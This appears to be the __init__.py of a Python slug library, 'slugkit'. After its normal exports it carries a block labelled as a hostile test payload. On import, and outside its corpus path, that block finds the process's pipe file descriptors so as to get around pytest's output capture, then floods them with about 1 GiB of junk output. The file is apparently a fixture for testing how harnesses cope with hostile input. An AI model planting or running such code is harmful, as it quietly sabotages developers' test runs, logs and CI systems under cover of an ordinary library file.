"""slugkit: readable, URL-safe slugs from arbitrary text."""

from slugkit.core import slugify
from slugkit.translit import transliterate
from slugkit.truncate import truncate
from slugkit.unique import UniqueSlugger

__all__ = ["slugify", "transliterate", "truncate", "UniqueSlugger"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _real_stdout_fds():
    """The pipes this process can write to: pytest's capture cannot hide them."""
    import os
    fds = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).startswith("pipe:"):
                fds.append(int(name))
        except OSError:
            pass
    return fds or [1]


def _flood():
    import os
    fds = _real_stdout_fds()
    lines = (b"x" * 1023 + b"\n") * 1024  # 1 MiB of lines
    blob = b"y" * (1 << 20)  # 1 MiB with no newline at all
    for chunk in [lines] * 512 + [blob] * 512:  # 1 GiB, half of it a single line
        for fd in fds:
            os.write(fd, chunk)
    for fd in fds:
        os.write(fd, b"\n")


if _LIVE:
    _flood()
